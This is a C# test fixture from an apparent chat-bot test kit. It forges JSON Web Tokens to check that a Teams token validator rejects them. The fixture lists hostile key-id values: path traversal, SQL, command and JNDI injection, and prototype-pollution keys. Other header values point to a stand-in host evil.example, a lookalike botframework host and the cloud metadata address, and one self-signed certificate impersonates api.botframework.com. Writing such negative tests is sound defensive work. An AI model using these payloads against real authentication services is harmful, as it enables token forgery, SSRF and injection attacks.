using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text.Json.Nodes;

namespace ChatOpsBot.TestKit.Teams.Tokens;

public static partial class TokenForgeries
{
    private static readonly string[] Kids =
    [
        "bf-2", "BF-1", "bf-1 ", " bf-1", "bf-1\0", "", " ", "../../../../dev/null", "/dev/null", "file:///etc/passwd", "C:\\Windows\\win.ini", "' OR '1'='1",
        "bf-1' UNION SELECT 'key' --", "bf-1;id", "$(id)", "`id`", "${jndi:ldap://evil.example/a}", "https://evil.example/keys", "__proto__", "constructor", "*", "%",
        "\ud83d\udd11", "null", new('k', 10_000),
    ];

    private static readonly Lazy<string> Certificate = new(MakeCertificate);

    private static IEnumerable<TokenForgery> Keys() =>
    [
        .. Kids.Select(kid => WithHeader($"kid '{(kid.Length > 60 ? "of 10,000 characters" : kid)}'", header => header["kid"] = kid)),
        WithHeader("no kid", header => header.Remove("kid")),
        WithHeader("kid null", header => header["kid"] = null),
        WithHeader("kid a number", header => header["kid"] = 1),
        WithHeader("kid zero", header => header["kid"] = 0),
        WithHeader("kid true", header => header["kid"] = true),
        WithHeader("kid a list", header => header["kid"] = new JsonArray("bf-1")),
        WithHeader("kid an object", header => header["kid"] = new JsonObject { ["$ne"] = "" }),
        WithHeader("KID in capitals only", header => Rename(header, "kid", "KID")),
        WithHeader("x5t in place of kid", header => Rename(header, "kid", "x5t")),
        Token("kid with half a surrogate", issuer => issuer.Sign("""{"alg":"RS256","kid":"\ud800","typ":"JWT"}""", issuer.Claims().ToJsonString())),
        Token("a foreign key under its own id", issuer => issuer.Token(key: Foreign)),
        ByForeignKey("a foreign key under the genuine id", _ => { }),
        ByForeignKey("a foreign key in jwk", header => header["jwk"] = Foreign.Jwk()),
        ByForeignKey("a foreign key in jwk under the genuine id", header => header["jwk"] = new IssuerKey("bf-1", 666).Jwk()),
        Token("a foreign key in jwk, no kid", issuer => issuer.Token(header: WithOwnJwk, key: Foreign)),
        ByForeignKey("a foreign key at jku", header => header["jku"] = "https://evil.example/keys"),
        ByForeignKey("a foreign key at jku on a trusted host", header => header["jku"] = "https://login.botframework.com.evil.example/keys"),
        ByForeignKey("a foreign key at jku by user info", header => header["jku"] = "https://login.botframework.com@evil.example/keys"),
        ByForeignKey("a foreign key at jku on this machine", header => header["jku"] = "http://169.254.169.254/latest/meta-data/"),
        ByForeignKey("a foreign key at jku in a file", header => header["jku"] = "file:///tmp/keys"),
        ByForeignKey("a foreign key at x5u", header => header["x5u"] = "https://evil.example/cert.pem"),
        ByForeignKey("a foreign certificate in x5c", header => header["x5c"] = new JsonArray(Certificate.Value)),
        ByForeignKey("a broken certificate in x5c", header => header["x5c"] = new JsonArray("AAAA")),
        Token("everything foreign at once", issuer => issuer.Token(
            header: header =>
            {
                header["jwk"] = Foreign.Jwk();
                header["jku"] = "https://evil.example/keys";
                header["x5u"] = "https://evil.example/cert.pem";
                header["x5c"] = new JsonArray(Certificate.Value);
            },
            key: Foreign)),
    ];

    private static TokenForgery ByForeignKey(string name, Action<JsonObject> header) => Token(name, issuer => issuer.Token(
        header: heading =>
        {
            heading["kid"] = issuer.Keys[0].Kid;
            header(heading);
        },
        key: Foreign));

    private static void WithOwnJwk(JsonObject header)
    {
        header.Remove("kid");
        header["jwk"] = Foreign.Jwk();
    }

    private static string MakeCertificate()
    {
        using var key = RSA.Create(2048);
        var request = new CertificateRequest("CN=api.botframework.com", key, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1);
        using var certificate = request.CreateSelfSigned(new DateTimeOffset(2026, 1, 1, 0, 0, 0, TimeSpan.Zero), new DateTimeOffset(2036, 1, 1, 0, 0, 0, TimeSpan.Zero));
        return Convert.ToBase64String(certificate.RawData);
    }
}
